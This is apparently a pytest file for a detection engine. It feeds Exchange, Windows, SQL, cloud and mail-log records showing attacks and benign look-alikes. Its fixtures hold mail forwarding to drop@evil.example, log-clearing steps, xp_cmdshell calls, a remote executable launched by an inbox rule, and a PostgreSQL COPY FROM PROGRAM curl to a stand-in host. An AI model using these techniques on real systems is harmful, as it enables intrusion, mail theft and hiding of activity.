"""What must be told alone is told on one event, from every native format that can carry it."""

import json

import pytest

from tests.uba.indicators.examples import fabrikam, hits_of
from uba.events import Event
from uba.indicators import built_in_rules
from uba.reader import parse_record

EXCHANGE = ("MSExchange CmdletLogs", "MSExchange Management")


def ual(operation: str, *parameters: tuple[str, str], **more: object) -> str:
    """Write a record of the Unified Audit Log."""
    record = {
        "CreationTime": "2026-03-09T08:14:22",
        "Id": operation,
        "Operation": operation,
        "RecordType": 1,
        "ResultStatus": "True",
        "UserType": 0,
        "Workload": "Exchange",
        "UserId": "d.keller@fabrikam.example",
        "ClientIP": "203.0.113.77:4431",
        "Parameters": [{"Name": name, "Value": value} for name, value in parameters],
    }
    return json.dumps(record | more)


def xml(event_id: int, provider: str, channel: str, data: str, user: str = "") -> str:
    """Write a Windows event as XML."""
    return (
        '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
        f'<Provider Name="{provider}"/><EventID>{event_id}</EventID>'
        '<TimeCreated SystemTime="2026-03-09T07:58:03.1182034Z"/><EventRecordID>7</EventRecordID>'
        f"<Channel>{channel}</Channel><Computer>srv1.corp.example</Computer>{user}</System>{data}</Event>"
    )


def named(**values: str) -> str:
    """Write named data."""
    items = "".join(f'<Data Name="{name}">{value}</Data>' for name, value in values.items())
    return f"<EventData>{items}</EventData>"


def unnamed(*values: str) -> str:
    """Write data that predate manifests."""
    return "<EventData>" + "".join(f"<Data>{value}</Data>" for value in values) + "</EventData>"


def cmdlet(name: str, parameters: str, event_id: int = 1) -> str:
    """Write what Exchange logs of a cmdlet."""
    return xml(event_id, *EXCHANGE, unnamed(name, parameters, "corp.example/Staff/d.keller"))


def audit(statement: str, thing: str, action: str = "EX") -> str:
    """Write a record of SQL Server Audit."""
    text = (
        f"audit_schema_version:1 event_time:2026-03-09 03:11:12.0000000 sequence_number:1 action_id:{action} "
        "succeeded:true session_id:61 session_server_principal_name:webapp server_principal_name:webapp "
        f"database_name:master schema_name:sys object_name:{thing} statement:{statement} additional_information: "
    )
    return xml(33205, "MSSQLSERVER", "Application", unnamed(text))


def inventory(kind: str, **found: str) -> str:
    """Write a finding of a scan of mailboxes."""
    return json.dumps(
        {
            "scanned_at": "2026-03-09T08:00:00Z",
            "scanner": "notruler",
            "mailbox": "j.brandt@fabrikam.example",
            "kind": kind,
        }
        | found
    )


FOLDER = {"Name": "Inbox", "Path": "\\Inbox", "MemberUpn": "Default", "MemberRights": "Reviewer"}
RULE = [
    {"Name": "RuleOperation", "Value": "AddMailboxRule"},
    {"Name": "RuleActions", "Value": '[{"ActionType":"Forward","Recipients":["drop@evil.example"]}]'},
]
STARTS = [
    {"Name": "RuleOperation", "Value": "AddMailboxRule"},
    {"Name": "RuleActions", "Value": '[{"ActionType":"StartApplication","Path":"\\\\\\\\203.0.113.7\\\\x.exe"}]'},
]
CLEARED = (
    '<UserData><LogFileCleared xmlns="http://manifests.microsoft.com/win/2004/08/windows/eventlog">'
    "<SubjectUserSid>S-1-5-21-1-2-3-1105</SubjectUserSid><SubjectUserName>m.osei</SubjectUserName>"
    "<SubjectDomainName>CORP</SubjectDomainName>{}</LogFileCleared></UserData>"
)
TRACKED = (
    "2026-03-09T09:01:15.220Z,,,,HUB02,,,MAILBOXRULE,RECEIVE,71004512399871,<2026@fabrikam.example>,"
    "1e6eb197-c6b4-4f2a-328e-08dc5f139ac8,{},,38214,1,,,FW: Remittance,j.brandt@fabrikam.example,"
    "j.brandt@fabrikam.example,,Originating,,10.20.3.11,10.20.3.12,S:DeliveryPriority=Normal,Email,"
    "05503123-c5b9-46fe-9a31-56dc1db88f8f,15.02.1544.004"
)
GOOGLE = json.dumps(
    {
        "id": {"time": "2026-03-09T08:00:00.000Z", "uniqueQualifier": "1", "applicationName": "user_accounts"},
        "actor": {"email": "j.brandt@fabrikam.example"},
        "ipAddress": "203.0.113.77",
        "events": [
            {
                "type": "email_forwarding_change",
                "name": "email_forwarding_out_of_domain",
                "parameters": [{"name": "email_forwarding_destination_address", "value": "drop@evil.example"}],
            }
        ],
    }
)
OCSF_MAIL = json.dumps(
    {
        "class_uid": 4009,
        "activity_id": 1,
        "time": 1773046875220,
        "metadata": {"version": "1.8.0", "uid": "m1", "product": {"name": "Exchange"}},
        "direction_id": 2,
        "email": {
            "from": "j.brandt@fabrikam.example",
            "to": ["drop@evil.example"],
            "http_headers": [{"name": "X-MS-Exchange-Organization-AutoForwarded", "value": "true"}],
        },
    }
)
NTLM = {"TargetUserName": "s.ferro", "TargetDomainName": "CORP", "LogonType": "3", "IpAddress": "203.0.113.9"}
AZURE = json.dumps(
    {
        "time": "2026-03-09T03:02:10Z",
        "resourceId": "/SUBSCRIPTIONS/1/RESOURCEGROUPS/R/PROVIDERS/MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/ALL",
        "operationName": "MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/DELETE",
        "category": "Administrative",
        "resultType": "Success",
        "callerIpAddress": "198.51.100.61",
        "correlationId": "c1",
        "identity": {"claims": {"upn": "d.keller@fabrikam.example"}},
    }
)
OKTA = json.dumps(
    {
        "uuid": "o1",
        "published": "2026-03-09T01:30:11.120Z",
        "eventType": "system.log_stream.lifecycle.deactivate",
        "actor": {"id": "00u1", "type": "User", "alternateId": "d.keller@fabrikam.example"},
        "outcome": {"result": "SUCCESS"},
        "target": [{"id": "s1", "type": "LogStream", "displayName": "siem"}],
    }
)
TRAIL = json.dumps(
    {
        "eventVersion": "1.09",
        "eventTime": "2026-03-09T03:02:10Z",
        "eventSource": "cloudtrail.amazonaws.com",
        "eventName": "DeleteTrail",
        "awsRegion": "us-east-1",
        "sourceIPAddress": "198.51.100.61",
        "userIdentity": {"type": "IAMUser", "userName": "ci-deploy", "accountId": "111122223333"},
        "requestParameters": {"name": "main"},
        "eventID": "t1",
    }
)
HEADER = (
    "2026-03-09T09:10:29+00:00 mx1 postfix/cleanup[811]: 4XyZ12ABcD: info: header {} from ex1.fabrikam.example"
    "[10.20.3.11]; from=<j.brandt@fabrikam.example> to=<drop@evil.example> proto=ESMTP helo=<ex1>"
)

RECORDS = [
    ("R01", ual("ModifyFolderPermissions", MailboxOwnerUPN="cfo@fabrikam.example", Item={"ParentFolder": FOLDER})),
    ("R01", ual("AddFolderPermissions", MailboxOwnerUPN="cfo@fabrikam.example", Item={"ParentFolder": FOLDER})),
    (
        "R01",
        ual(
            "Add-MailboxFolderPermission",
            ("Identity", "cfo@fabrikam.example:\\Inbox"),
            ("User", "Default"),
            ("AccessRights", "Reviewer"),
        ),
    ),
    (
        "R01",
        ual(
            "Set-MailboxFolderPermission",
            ("Identity", "cfo@fabrikam.example:\\Inbox"),
            ("User", "Anonymous"),
            ("AccessRights", "Owner"),
        ),
    ),
    ("R01", cmdlet("Add-MailboxFolderPermission", '-Identity "cfo:\\Inbox" -User "Default" -AccessRights "Reviewer"')),
    (
        "R02",
        ual(
            "Add-MailboxPermission",
            ("Identity", "cfo@fabrikam.example"),
            ("User", "d.keller@fabrikam.example"),
            ("AccessRights", "FullAccess"),
        ),
    ),
    (
        "R02",
        ual(
            "Add-RecipientPermission",
            ("Identity", "cfo@fabrikam.example"),
            ("Trustee", "d.keller@fabrikam.example"),
            ("AccessRights", "SendAs"),
        ),
    ),
    (
        "R02",
        ual("Set-Mailbox", ("Identity", "cfo@fabrikam.example"), ("GrantSendOnBehalfTo", "d.keller@fabrikam.example")),
    ),
    (
        "R02",
        ual(
            "New-ManagementRoleAssignment", ("Role", "ApplicationImpersonation"), ("User", "d.keller@fabrikam.example")
        ),
    ),
    ("R02", cmdlet("Add-MailboxPermission", '-Identity "cfo" -User "d.keller" -AccessRights "FullAccess"')),
    ("R02", cmdlet("New-ManagementRoleAssignment", '-Role "ApplicationImpersonation" -User "d.keller"')),
    ("R15", HEADER.format("X-MS-Exchange-Organization-AutoForwarded: true")),
    ("R15", HEADER.format("X-Forwarded-To: drop@evil.example")),
    ("R15", HEADER.format("X-MailFwdBy: j.brandt@fabrikam.example")),
    ("R15", HEADER.format("X-MS-Exchange-Inbox-Rules-Loop: j.brandt@fabrikam.example")),
    ("R15", TRACKED.format("drop@evil.example")),
    ("R15", OCSF_MAIL),
    (
        "R16",
        ual("Set-Mailbox", ("Identity", "cfo@fabrikam.example"), ("ForwardingSmtpAddress", "smtp:drop@evil.example")),
    ),
    ("R16", ual("New-InboxRule", ("Name", "x"), ("RedirectTo", '"drop@evil.example" [SMTP:drop@evil.example]'))),
    ("R16", ual("Set-InboxRule", ("Identity", "x"), ("ForwardAsAttachmentTo", "drop@evil.example"))),
    ("R16", ual("UpdateInboxRules", OperationProperties=RULE, MailboxOwnerUPN="cfo@fabrikam.example")),
    ("R16", ual("New-TransportRule", ("Name", "x"), ("BlindCopyTo", "drop@evil.example"))),
    ("R16", cmdlet("Set-Mailbox", '-Identity "cfo@fabrikam.example" -ForwardingSmtpAddress "smtp:drop@evil.example"')),
    ("R16", GOOGLE),
    ("R23", xml(1102, "Microsoft-Windows-Eventlog", "Security", CLEARED.format(""))),
    ("R23", xml(104, "Microsoft-Windows-Eventlog", "System", CLEARED.format("<Channel>Application</Channel>"))),
    (
        "R23",
        xml(
            4719,
            "Microsoft-Windows-Security-Auditing",
            "Security",
            named(
                SubjectUserName="m.osei",
                SubjectDomainName="CORP",
                SubcategoryGuid="{0CCE9215}",
                AuditPolicyChanges="%%8448",
            ),
        ),
    ),
    (
        "R23",
        xml(
            7040,
            "Service Control Manager",
            "System",
            unnamed("Windows Event Log", "auto start", "disabled", "EventLog"),
        ),
    ),
    (
        "R23",
        xml(
            29,
            "Microsoft-Windows-IIS-Configuration",
            "Microsoft-IIS-Configuration/Operational",
            named(Configuration="/system.webServer/httpLogging/@dontLog", NewValue="true"),
        ),
    ),
    ("R23", audit("DROP SERVER AUDIT main", "main", "DR")),
    ("R23", audit("ALTER SERVER AUDIT main WITH (STATE = OFF)", "main", "AL")),
    ("R23", TRAIL),
    ("R23", TRAIL.replace("DeleteTrail", "StopLogging")),
    ("R23", AZURE),
    ("R23", OKTA),
    ("R23", ual("Set-AdminAuditLogConfig", ("UnifiedAuditLogIngestionEnabled", "False"))),
    ("R23", ual("Set-MailboxAuditBypassAssociation", ("Identity", "d.keller"), ("AuditBypassEnabled", "True"))),
    ("R23", cmdlet("Set-AdminAuditLogConfig", '-AdminAuditLogEnabled "False"')),
    ("R25", xml(4624, "Microsoft-Windows-Security-Auditing", "Security", named(**NTLM, WorkstationName="RULER"))),
    (
        "R25",
        xml(
            4625,
            "Microsoft-Windows-Security-Auditing",
            "Security",
            named(**NTLM, WorkstationName="RULER", SubStatus="0xC000006A"),
        ),
    ),
    (
        "R25",
        xml(
            4776,
            "Microsoft-Windows-Security-Auditing",
            "Security",
            named(TargetUserName="s.ferro", Workstation="RULER", Status="0x0"),
        ),
    ),
    ("R25", ual("UpdateInboxRules", OperationProperties=STARTS, MailboxOwnerUPN="cfo@fabrikam.example")),
    ("R25", inventory("rule", rule_name="pwned", action="start application \\\\203.0.113.7\\x.exe")),
    ("R25", inventory("home_page", home_page="http://203.0.113.7/p.html")),
    ("R25", inventory("form", message_class="IPM.Note.abcdef")),
    ("R31", audit("EXEC xp_cmdshell 'whoami'", "xp_cmdshell")),
    ("R31", audit("EXEC sp_procoption N'dbo.p', 'startup', 'on'", "sp_procoption")),
    ("R31", audit("ALTER SERVER ROLE [sysadmin] ADD MEMBER [webapp]", "sysadmin", "APRL")),
    ("R31", xml(15457, "MSSQLSERVER", "Application", unnamed("xp_cmdshell", "0", "1"))),
    ("R31", xml(15457, "MSSQL$PAY", "Application", unnamed("Ole Automation Procedures", "0", "1"))),
    ("R31", xml(17135, "MSSQLSERVER", "Application", unnamed("dbo.p"))),
    (
        "R31",
        "<14>1 2026-03-09T03:11:12Z db1 postgres 811 - - LOG:  statement: COPY t FROM PROGRAM 'curl http://203.0.113.7/x'",
    ),
    ("R32", cmdlet("Install-TransportAgent", '-Name "Relay Filter" -AssemblyPath "C:\\Windows\\Temp\\x.dll"')),
    ("R32", cmdlet("Install-TransportAgent", '-Name "Relay" -AssemblyPath "C:\\Windows\\Temp\\x.dll"', event_id=6)),
    ("R32", ual("Install-TransportAgent", ("Name", "Relay Filter"), ("AssemblyPath", "C:\\Windows\\Temp\\x.dll"))),
]

LOOK_ALIKES = [
    ual("Set-Mailbox", ("Identity", "cfo@fabrikam.example"), ("ForwardingSmtpAddress", "smtp:in@tickets.example")),
    ual("New-InboxRule", ("Name", "x"), ("ForwardTo", "m.osei@fabrikam.example")),
    ual("Set-AdminAuditLogConfig", ("UnifiedAuditLogIngestionEnabled", "True")),
    ual(
        "Add-MailboxPermission",
        ("Identity", "room@fabrikam.example"),
        ("User", "NT AUTHORITY\\SELF"),
        ("AccessRights", "FullAccess"),
    ),
    ual(
        "Add-MailboxPermission",
        ("Identity", "x@fabrikam.example"),
        ("User", "ap@fabrikam.example"),
        ("AccessRights", "FullAccess"),
        UserId="admin@fabrikam.example",
    ),
    ual(
        "Add-MailboxFolderPermission",
        ("Identity", "cfo@fabrikam.example:\\Calendar"),
        ("User", "Default"),
        ("AccessRights", "Reviewer"),
    ),
    ual(
        "Add-MailboxFolderPermission",
        ("Identity", "cfo@fabrikam.example:\\Inbox"),
        ("User", "ap@fabrikam.example"),
        ("AccessRights", "Reviewer"),
    ),
    cmdlet("Set-Mailbox", '-Identity "cfo@fabrikam.example" -ForwardingAddress "m.osei@fabrikam.example"'),
    cmdlet("Get-TransportAgent", '-Identity "Relay Filter"'),
    TRACKED.format("m.osei@fabrikam.example"),
    HEADER.format("X-Forwarded-To: in@tickets.example").replace("drop@evil.example", "in@tickets.example"),
    xml(7036, "Service Control Manager", "System", unnamed("Windows Event Log", "stopped")),
    xml(1100, "Microsoft-Windows-Eventlog", "Security", "<UserData/>"),
    xml(
        4719,
        "Microsoft-Windows-Security-Auditing",
        "Security",
        named(SubjectUserName="m.osei", AuditPolicyChanges="%%8449"),
    ),
    xml(15457, "MSSQLSERVER", "Application", unnamed("xp_cmdshell", "1", "0")),
    audit("SELECT value FROM sys.configurations WHERE name = 'xp_cmdshell'", "configurations", "SL"),
]


def told(record: str) -> set[str]:
    """Indicators that are told alone on one native record, recognised by its content."""
    event = parse_record(record.encode())
    assert isinstance(event, Event), event
    rules = built_in_rules()
    fired = [rules.rules[hit.rule] for hit in hits_of(rules, [event], fabrikam())]
    return {rule.indicator for rule in fired if rule.must_fire}


@pytest.mark.parametrize(("indicator", "record"), RECORDS, ids=lambda text: text[:60])
def test_is_told_on_one_event(indicator, record):
    """One native record is enough."""
    assert indicator in told(record)


@pytest.mark.parametrize("record", LOOK_ALIKES, ids=lambda text: text[:60])
def test_look_alikes_are_not_told(record):
    """What looks like it and is allowed, the organisation's own or the other way round is not told."""
    assert told(record) == set()
